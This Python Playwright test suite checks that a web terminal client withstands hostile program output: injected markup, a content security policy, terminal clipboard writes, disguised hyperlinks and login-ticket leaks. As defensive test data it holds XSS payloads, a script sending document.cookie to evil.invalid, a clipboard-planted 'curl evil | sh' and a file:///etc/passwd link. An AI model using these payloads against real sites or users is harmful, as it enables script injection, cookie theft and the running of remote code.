"""What a hostile program can do to the web client that shows it, and what the browser itself keeps."""

import base64
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.page import WebPage
from tests.doors.other_site import OtherSite, other_site
from tests.support.daemon import PtydUnderTest

pytestmark = pytest.mark.browser

MARKUP = [
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<script>window.hit=1</script>",
    "\"><iframe srcdoc='<script>parent.hit=1</script>'>",
    "javascript:window.hit=1",
    "${window.hit=1}{{window.hit=1}}",
]
READ_CLIPBOARD = "navigator.clipboard.readText()"


@pytest.fixture
def site() -> Iterator[OtherSite]:
    with other_site() as running:
        yield running


def start_printing(daemon: PtydUnderTest, output: str | bytes, name: str = "hostile") -> None:
    """A session that prints once somebody presses Enter, and again each time."""
    data = output.encode() if isinstance(output, str) else output
    loop = "while sys.stdin.readline():\n sys.stdout.buffer.write(base64.b64decode(sys.argv[1]))\n sys.stdout.flush()"
    argv = ["python3", "-c", f"import sys, base64\n{loop}", base64.b64encode(data).decode()]
    daemon.request("create", argv=argv, name=name)


def show(web: WebPage, name: str = "hostile") -> None:
    web.open_session(name)
    web.page.keyboard.press("Enter")


def hover_first_cell(web: WebPage, row: int = 1) -> tuple[float, float]:
    screen = web.page.locator(".xterm-screen").bounding_box()
    assert screen is not None
    x, y = screen["x"] + 20, screen["y"] + 8 + 18 * row
    web.page.mouse.move(x - 10, y)
    web.page.mouse.move(x, y)
    return x, y


# --- markup


def test_markup_in_what_programs_and_requests_say(web: WebPage, daemon: PtydUnderTest) -> None:
    """By title, output, link, notification, progress, arguments, directory and error, it is text everywhere."""
    parts = []
    for text in MARKUP:
        parts += [
            f"\x1b]0;{text}\x07",
            f"\x1b]2;{text}\x1b\\",
            f"\x1b]9;{text}\x07",
            f"\x1b]777;notify;{text};{text}\x07",
        ]
        parts += [
            f"\x1b]8;;{text}\x1b\\{text}\x1b]8;;\x1b\\\r\n",
            f"\x1b]7;{text}\x07",
            f"\x1bk{text}\x1b\\",
            text,
            "\x07",
        ]
    start_printing(daemon, "".join(parts) + "printed-all")
    for text in MARKUP:
        daemon.request("create", argv=["python3", "-c", "input()", text], kind="command", env={"X": text})
    show(web)
    web.wait_for_text("printed-all")
    assert MARKUP[-1] in web.page.title()
    web.find("new-session").click()
    web.find("new-command").fill(f"'{MARKUP[0]}'")
    web.find("new-directory").fill(MARKUP[1])
    web.find("dialog-confirm").click()
    expect(web.find("new-session-dialog")).to_contain_text("<")
    web.find("dialog-cancel").click()
    assert web.page.locator("main img, main svg[onload], iframe, #app script, aside img").count() == 0
    assert web.evaluate("window.hit") is None


def test_an_injected_script_would_not_run(daemon: PtydUnderTest, web: WebPage) -> None:
    """Were markup let through somewhere: the policy forbids what it could do."""
    web.page.evaluate(
        """() => {
          window.blocked = [];
          document.addEventListener("securitypolicyviolation", event => window.blocked.push(event.effectiveDirective));
          document.body.insertAdjacentHTML("beforeend",
            '<img src="x:" onerror="window.hit=1"><a id=bad href="javascript:window.hit=1">x</a>' +
            '<iframe src="data:text/html,<script>parent.hit=1</script>"></iframe>');
          const script = document.createElement("script");
          script.textContent = "window.hit=1";
          document.body.append(script);
          const base = document.createElement("base");
          base.href = "http://evil.invalid/";
          document.head.append(base);
          document.getElementById("bad").click();
          fetch("http://evil.invalid/?" + document.cookie).catch(() => {});
          // Not at once: what the browser's own tools evaluate may evaluate, too.
          setTimeout(() => eval("window.hit=1"));
        }"""
    )
    for directive in ("script-src-elem", "script-src-attr", "frame-src", "base-uri", "connect-src", "script-src"):
        web.wait_for(f"window.blocked.includes({directive!r})", lambda: str(web.evaluate("window.blocked")))
    assert web.evaluate("window.hit") is None
    web.errors.clear()  # eval's, which was refused
    assert web.evaluate("document.cookie") == "", "HttpOnly"


def test_normal_use_breaks_no_policy(context: BrowserContext, daemon: PtydUnderTest) -> None:
    context.add_init_script(
        "window.blocked = []; document.addEventListener('securitypolicyviolation', event => window.blocked.push("
        "`${event.effectiveDirective} ${event.blockedURI}`))"
    )
    web = WebPage(context.new_page())
    web.log_in(daemon)
    web.start_session("bash --norc --noprofile")
    web.run(
        r"printf '\e[1;31mred\e[m \e]8;;https://example.invalid\e\\link\e]8;;\e\\ \e]52;c;aGk=\a\n'; echo ok-$((1+1))"
    )
    web.wait_for_text("ok-2")
    web.find("clipboard-deny").click()
    web.page.keyboard.press("Control+Shift+F")
    web.find("search-input").fill("red")
    web.find("search-close").click()
    web.find("theme").click()
    assert web.evaluate("window.blocked") == []


# --- the clipboard


def test_a_program_does_not_fill_the_clipboard_unasked(
    web: WebPage, daemon: PtydUnderTest, context: BrowserContext
) -> None:
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    web.page.evaluate("navigator.clipboard.writeText('mine')")
    wanted = base64.b64encode(b"curl evil | sh\n\x1b").decode()
    start_printing(daemon, f"\x1b]52;c;{wanted}\x07printed ")
    show(web)
    web.wait_for_text("printed")
    expect(web.find("clipboard-preview")).to_have_text("curl evil | sh⏎\\u{1b}")
    assert web.evaluate(READ_CLIPBOARD) == "mine"
    web.find("clipboard-deny").click()
    expect(web.find("clipboard-prompt")).to_be_hidden()
    assert web.evaluate(READ_CLIPBOARD) == "mine"


def test_the_answer_holds_for_the_session_alone(web: WebPage, daemon: PtydUnderTest, context: BrowserContext) -> None:
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    for name in ("first", "second", "third"):
        start_printing(daemon, f"\x1b]52;c;{base64.b64encode(name.encode()).decode()}\x07printed-{name} ", name)
    web.page.evaluate("navigator.clipboard.writeText('mine')")
    show(web, "first")
    web.find("clipboard-never").click()
    web.page.keyboard.press("Enter")
    web.wait_for("window.ptyd.readText().split('printed-first').length > 2", "it printed again")
    expect(web.find("clipboard-prompt")).to_be_hidden()
    show(web, "second")
    web.find("clipboard-always").click()
    web.wait_for(f"{READ_CLIPBOARD}.then(text => text === 'second')", "it was copied")
    web.page.evaluate("navigator.clipboard.writeText('mine')")
    web.page.keyboard.press("Enter")
    web.wait_for(f"{READ_CLIPBOARD}.then(text => text === 'second')", "it was copied unasked")
    show(web, "third")
    expect(web.find("clipboard-prompt")).to_be_visible()
    web.open_session("second")
    expect(web.find("clipboard-prompt")).to_be_hidden()


def test_a_program_does_not_read_the_clipboard(web: WebPage, daemon: PtydUnderTest, context: BrowserContext) -> None:
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    web.page.evaluate("navigator.clipboard.writeText('my secret')")
    web.start_session("bash --norc --noprofile -c 'stty raw -echo; printf \"\\e]52;c;?\\a\\e[c\"; exec cat -v'")
    web.wait_for_text("^[[?")  # the answer to the second question
    assert base64.b64encode(b"my secret").decode() not in web.text()


# --- links


def test_a_hidden_link_is_shown_before_it_is_followed(
    web: WebPage, daemon: PtydUnderTest, context: BrowserContext
) -> None:
    context.route("http://evil.invalid/**", lambda route: route.fulfill(body="there", content_type="text/plain"))
    start_printing(daemon, "\x1b]8;;http://evil.invalid/\x1b\\https://bank.invalid/\x1b]8;;\x1b\\\r\n")
    show(web)
    web.wait_for_text("bank.invalid")
    x, y = hover_first_cell(web)
    expect(web.find("link-hint")).to_have_text("http://evil.invalid/")
    web.page.mouse.click(x, y)
    expect(web.find("link-address")).to_have_text("http://evil.invalid/")
    web.find("dialog-cancel").click()
    assert len(context.pages) == 1
    web.page.mouse.click(*hover_first_cell(web))
    with context.expect_page() as opened:
        web.find("dialog-confirm").click()
    opened.value.wait_for_url("http://evil.invalid/")
    assert opened.value.evaluate("window.opener") is None


def test_a_link_with_a_pages_powers_is_none(web: WebPage, daemon: PtydUnderTest, context: BrowserContext) -> None:
    uris = [
        "javascript:window.hit=1",
        "data:text/html,<script>hit=1</script>",
        "file:///etc/passwd",
        "JaVaScRiPt:hit=1",
    ]
    start_printing(daemon, "".join(f"\x1b]8;;{uri}\x1b\\click-me-here\x1b]8;;\x1b\\\r\n" for uri in uris) + "all")
    show(web)
    web.wait_for_text("all")
    for row in range(1, len(uris) + 1):
        x, y = hover_first_cell(web, row)
        expect(web.find("link-hint")).to_have_text("This link may not be followed.")
        web.page.mouse.click(x, y)
    expect(web.find("link-dialog")).to_have_count(0)
    assert len(context.pages) == 1
    assert web.evaluate("window.hit") is None


# --- what leaks by the address


def visit_by_link(page: Page, url: str, context: BrowserContext) -> None:
    with context.expect_page() as opened:
        page.evaluate(
            """url => {
              const link = document.createElement("a");
              link.href = url;
              link.target = "_blank";
              document.body.append(link);
              link.click();
            }""",
            url,
        )
    opened.value.wait_for_load_state()


def test_a_ticket_leaves_no_trace(
    web: WebPage, daemon: PtydUnderTest, context: BrowserContext, site: OtherSite
) -> None:
    """Not in the Referer of a link, not in the history, not in a log."""
    ticket = daemon.request("login_ticket")
    page = context.new_page()
    page.goto(ticket["url"])
    page.wait_for_url(re.compile(r"/$"))
    page.wait_for_function("window.ptyd !== undefined")
    assert page.evaluate("history.length") <= 2, "about:blank and the page: its address has taken the ticket's place"
    page.go_back()
    assert "ticket" not in page.url
    visit_by_link(web.page, site.url("/linked"), context)
    (headers,) = [headers for path, headers in site.requests if path == "/linked"]
    assert "referer" not in headers
    log = (daemon.runtime_dir / "daemon.log").read_text()
    assert ticket["ticket"] not in log
    assert "ticket=" not in log
